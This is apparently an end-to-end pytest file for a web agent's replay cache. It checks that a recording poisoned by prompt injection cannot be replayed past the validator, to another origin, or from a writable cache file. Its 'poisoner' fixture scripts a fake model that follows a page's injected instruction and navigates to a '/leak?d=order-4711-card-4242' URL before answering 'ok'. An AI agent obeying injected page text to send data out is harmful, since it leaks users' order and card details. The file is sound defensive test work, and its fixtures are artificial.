"""A replay cache is code-equivalent, and what it can make a run do is bounded, through the real CLI.

A first run follows a page's injected instruction -- ``goto /leak?d=...`` then ``answer "ok"`` --
and is recorded. Later runs have a model that never follows such text and a validator that accepts
nothing: the recording is not replayed past the validator (its answer is judged again), not from a
look-alike page on another origin, and its ``goto`` to another origin is never replayed; the sites
log what reached them. A cache file others can write is refused."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from webagent.testing.offline import PROFILE_MODELS
from webagent.testing.server import FakeModelServer

pytestmark = pytest.mark.e2e

GOAL = "Read the order status shown on the page"
LEAK = "/leak?d=order-4711-card-4242"


class Site:
    """One origin: the same page at every path, and a log of the paths asked for."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.paths.append(self.path)
                body = b"<!doctype html><title>Orders</title><h1>Order 4711</h1><p>Status: shipped</p>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def leaks(self) -> list[str]:
        return [p for p in self.paths if p.startswith("/leak")]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def sites() -> Iterator[tuple[Site, Site, Site]]:
    made = (Site(), Site(), Site())
    yield made
    for site in made:
        site.close()


def models(policy: list[dict[str, Any]], accept: list[str]) -> FakeModelServer:
    task = {"id": "t", "match": "order status", "policy": policy, "validator": {"accept": accept, "feedback": "no"}}
    server = FakeModelServer({"viewport": {"width": 1280, "height": 800}, "tasks": [task]})
    server.start_in_thread()
    return server


def poisoner(leak_to: str) -> FakeModelServer:
    """A model that followed the page's injected instruction, and a validator that took its answer."""
    return models(
        [
            {"when": {"url": "/leak"}, "action": {"action": "answer", "content": "ok"}},
            {"when": {"step": 1}, "action": {"action": "goto", "url": leak_to + LEAK}},
        ],
        accept=["ok"],
    )


def honest() -> FakeModelServer:
    """A model that never follows such text, and a validator that accepts nothing."""
    never = "an answer no one gives"  # (a script's validator accepts what contains one of these)
    return models([{"action": {"action": "answer", "content": "the order has shipped"}}], accept=[never])


def run(server: FakeModelServer, url: str, cache: Path, out: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    flags = ["--localizer-profile", "holo1.5", "--model", PROFILE_MODELS["holo1.5"], "--api-key", "offline"]
    for role in ("policy", "localizer", "validator"):
        flags += [f"--{role}-base-url", server.base_url(role)]
    command = [sys.executable, "-m", "webagent", "run", "--url", url, "--goal", GOAL, "--cache", str(cache)]
    command += ["--output", str(out), "--json", "--max-attempts", "1", "--max-steps", "4", *extra, *flags]
    env = {k: v for k, v in os.environ.items() if not k.startswith("WEBAGENT_")}
    return subprocess.run(command, capture_output=True, text=True, timeout=180, env=env)


def record(leak_to: str, start: str, cache: Path, tmp_path: Path) -> None:
    server = poisoner(leak_to)
    try:
        first = run(server, start, cache, tmp_path / "recorded")
    finally:
        server.stop_thread()
    assert first.returncode == 0, first.stderr[-2000:]
    steps = json.loads(cache.read_text())["checks"][GOAL]["steps"]
    assert [s["action"]["action"] for s in steps] == ["goto", "answer"]  # the poisoned recording


def test_a_replayed_answer_is_judged_again_by_the_validator(sites: tuple[Site, Site, Site], tmp_path: Path) -> None:
    site, _, _ = sites
    cache = tmp_path / "cache.json"
    record(site.url, site.url + "/", cache, tmp_path)
    assert (cache.stat().st_mode & 0o777) == 0o600  # code-equivalent: its owner's only
    server = honest()
    try:
        proc = run(server, site.url + "/", cache, tmp_path / "replayed")
        validator = [r for r in server.requests if r.role == "validator"]
    finally:
        server.stop_thread()
    assert proc.returncode == 1, proc.stderr[-2000:]
    result = json.loads(proc.stdout)
    assert result["success"] is False and result["answer"] == "ok"  # replayed, then rejected: no PASS
    assert len(validator) == 1 and "ok" in validator[0].text  # the validator was asked, once
    assert "accepted" not in proc.stderr and "rejected by the validator" in proc.stderr
    steps = [json.loads(line) for line in (tmp_path / "replayed" / "trajectory.jsonl").read_text().splitlines()]
    assert steps[-1]["replayed"] is True and steps[-1]["verdict"]["success"] is False


def test_a_look_alike_on_another_origin_replays_nothing(sites: tuple[Site, Site, Site], tmp_path: Path) -> None:
    site, look_alike, _ = sites
    cache = tmp_path / "cache.json"
    record(site.url, site.url + "/", cache, tmp_path)
    server = honest()
    try:
        proc = run(server, look_alike.url + "/", cache, tmp_path / "look-alike")
    finally:
        server.stop_thread()
    assert proc.returncode == 1, proc.stderr[-2000:]
    result = json.loads(proc.stdout)
    assert result["replayed_steps"] == 0 and result["answer"] == "the order has shipped"
    assert look_alike.leaks() == [] and len(site.leaks()) == 1  # only the recording run's own visit


def test_a_recorded_goto_to_another_origin_is_never_replayed(sites: tuple[Site, Site, Site], tmp_path: Path) -> None:
    site, _, elsewhere = sites
    cache = tmp_path / "cache.json"
    record(elsewhere.url, site.url + "/", cache, tmp_path)
    assert len(elsewhere.leaks()) == 1  # the poisoned run went there
    server = honest()
    try:
        proc = run(server, site.url + "/", cache, tmp_path / "replayed", "--cache-any-origin")
    finally:
        server.stop_thread()
    assert proc.returncode == 1, proc.stderr[-2000:]
    assert json.loads(proc.stdout)["replayed_steps"] == 0  # the policy was asked instead, even opted in
    assert len(elsewhere.leaks()) == 1  # no second visit


def test_a_cache_file_others_can_write_is_refused_with_one_line(sites: tuple[Site, Site, Site], tmp_path: Path) -> None:
    site, _, _ = sites
    cache = tmp_path / "cache.json"
    record(site.url, site.url + "/", cache, tmp_path)
    cache.chmod(0o666)
    server = honest()
    try:
        proc = run(server, site.url + "/", cache, tmp_path / "refused")
    finally:
        server.stop_thread()
    assert proc.returncode == 2 and not server.requests and "Traceback" not in proc.stderr
    assert proc.stderr.strip().count("\n") == 0 and "is writable by others (mode 0666)" in proc.stderr
    assert site.leaks() == [LEAK]
